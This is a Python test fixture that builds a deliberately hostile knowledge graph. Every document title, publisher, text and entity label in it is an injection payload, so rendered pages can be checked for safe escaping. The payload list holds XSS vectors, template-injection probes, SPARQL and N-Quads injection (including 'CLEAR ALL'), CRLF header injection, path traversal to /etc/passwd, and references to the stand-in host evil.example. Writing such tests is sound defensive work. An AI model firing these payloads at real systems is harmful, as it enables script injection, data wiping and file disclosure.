"""A graph of hostile words: each payload is the title, file, publisher, text, quote, name and purpose of a document."""

from pathlib import Path

import pyoxigraph as ox

from kg.model.claim import Claim, EntityRef, Evidence, Modality, Words
from kg.model.document import Document
from kg.model.entity import Entity
from kg.model.reading import Reading
from kg.rdf.merged import merged_quads
from kg.rdf.nquads import write_nquads
from kg.rdf.write import document_quads
from kg.resolution import Resolution

BASE = "https://kg.example/id/"
KG = "https://kg.example/ontology#"
RAN = "window.ran=1"
ELSEWHERE = "//evil.example/x"
PAYLOADS = (
    f"<script>{RAN}</script>",
    f"</script><script>{RAN}</script>",
    f"</title><script>{RAN}</script>",
    f"</textarea><script>{RAN}</script>",
    f"</style><script>{RAN}</script>",
    f"--><script>{RAN}</script>",
    f"]]><script>{RAN}</script>",
    f"<ScRiPt>{RAN}</sCrIpT>",
    f"<<script>script>{RAN}<</script>/script>",
    f"<script src={ELSEWHERE}></script>",
    f"<img src=x onerror={RAN}>",
    f"<img src={ELSEWHERE}>",
    f"<svg onload={RAN}>",
    f"<svg><animate onbegin={RAN} attributeName=x dur=1s>",
    f"<svg><script>{RAN}</script></svg>",
    f"<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=x onerror={RAN}&gt;'>",
    f"<noscript><p title='</noscript><img src=x onerror={RAN}>'>",
    f"<details open ontoggle={RAN}>",
    f"<input autofocus onfocus={RAN}>",
    f"<video><source onerror={RAN}></video>",
    f"<body onload={RAN}>",
    f"<iframe src=javascript:{RAN}></iframe>",
    f"<iframe srcdoc='<script>parent.{RAN}</script>'></iframe>",
    f"<object data={ELSEWHERE}></object>",
    f"<embed src={ELSEWHERE}>",
    f"<link rel=stylesheet href={ELSEWHERE}>",
    f"<style>@import '{ELSEWHERE}'; * {{ background: url({ELSEWHERE}) }}</style>",
    f"<base href={ELSEWHERE}>",
    f"<meta http-equiv=refresh content='0;url={ELSEWHERE}'>",
    f"<form action={ELSEWHERE}><button autofocus>go</button></form>",
    f"<a href=javascript:{RAN}>click</a>",
    f"javascript:{RAN}",
    f"JaVaScRiPt:{RAN}//",
    f"data:text/html,<script>{RAN}</script>",
    f'" onmouseover="{RAN}" autofocus onfocus="{RAN}',
    f"' onmouseover='{RAN}' autofocus onfocus='{RAN}",
    f"` onfocus=`{RAN}",
    f"\\x3cscript\\x3e{RAN}\\x3c/script\\x3e",
    f"&lt;script&gt;{RAN}&lt;/script&gt;",
    f"&#60;script&#62;{RAN}&#60;/script&#62;",
    f"%3Cscript%3E{RAN}%3C/script%3E",
    "{{ 7191 * 7193 }}{% for x in ().__class__.__base__.__subclasses__() %}{{ x }}{% endfor %}",
    "${7191*7193} #{7191*7193} <%= 7191*7193 %> [[7191*7193]]",
    '" } UNION { ?s ?p ?o } #',
    '") } ; CLEAR ALL ; SELECT * { FILTER("',
    "> . <urn:x> <urn:y> <urn:z> . <",
    "\r\nSet-Cookie: ran=1\r\n\r\n<script>" + RAN + "</script>",
    "\u202egpj.exe\u202c \u2066hidden\u2069 \u200b\u200d\ufeff \u2028 \u2029",
    "../../../../etc/passwd",
    '=HYPERLINK("http://evil.example")',
    "<!--#include virtual=/etc/passwd-->",
    "A" * 20_000,
)
IRIS = (
    f"javascript:{RAN}",
    f"data:text/html,{RAN}",
    f"{BASE}entity/'onclick={RAN}//",
    f"{BASE}entity/..%2f..%2fsecret",
    f"{BASE}entity/%3Cscript%3E{RAN}%3C%2Fscript%3E",
    f"{BASE}entity/?q=1#fragment",
    f"{BASE}entity//evil.example",
    f"{KG}%22%3E'onclick={RAN}",
)


def build_hostile(folder: Path) -> list[str]:
    """Write the graph; gives the paths of all pages that show a payload."""
    readings = [_reading(number, words) for number, words in enumerate(PAYLOADS)]
    keys = [reading.document.key for reading in readings]
    resolution = Resolution(
        entities={(key, name): f"{name}{number}" for number, key in enumerate(keys) for name in ("a", "b")},
        dealings={(key, 0): f"d{number}" for number, key in enumerate(keys)},
        labels={f"{name}{number}": words for number, words in enumerate(PAYLOADS) for name in ("a", "b")},
    )
    quads = [quad for reading in readings for quad in document_quads(reading, resolution)]
    write_nquads([*quads, *merged_quads(readings, resolution)], folder / "graph.nq")
    victim = ox.NamedNode(f"{BASE}entity/a0")
    further = [
        quad
        for iri in map(ox.NamedNode, IRIS)
        for quad in (
            ox.Quad(iri, ox.NamedNode(f"{KG}partOf"), victim, victim),
            ox.Quad(victim, ox.NamedNode(f"{KG}partOf"), iri, victim),
            ox.Quad(victim, iri, ox.Literal(RAN, datatype=iri), victim),
            ox.Quad(iri, ox.NamedNode("http://www.w3.org/1999/02/22-rdf-syntax-ns#type"), iri, iri),
        )
    ]
    with (folder / "graph.nq").open("ab") as file:
        file.write(ox.serialize(further, format=ox.RdfFormat.N_QUADS) or b"")
    (folder / "texts").mkdir()
    for reading in readings[::2]:
        (folder / "texts" / f"{reading.document.key}.txt").write_text(reading.document.text, "utf-8", newline="")
    return [
        *(f"id/document/{key}" for key in keys),
        *(f"id/entity/a{number}" for number in range(0, len(keys), 3)),
        *(f"id/dealing/d{number}" for number in range(1, len(keys), 3)),
    ]


def _reading(number: int, words: str) -> Reading:
    text = f"{number} {words} lent {words} money."
    document = Document(f"{number}{words}", text, title=words, issued="2025", publisher=words, url=words)
    claim = Claim(
        "Funding",
        (("funder", EntityRef("a")), ("recipient", EntityRef("b")), ("purpose", Words(words))),
        Modality.ACTUAL,
        (Evidence(0, len(text), text),),
        attributed_to=("a",),
    )
    entities = (Entity("a", "Person", (words, f"also {words}")), Entity("b", "Organization", (words,)))
    return Reading(document, entities, (claim,))
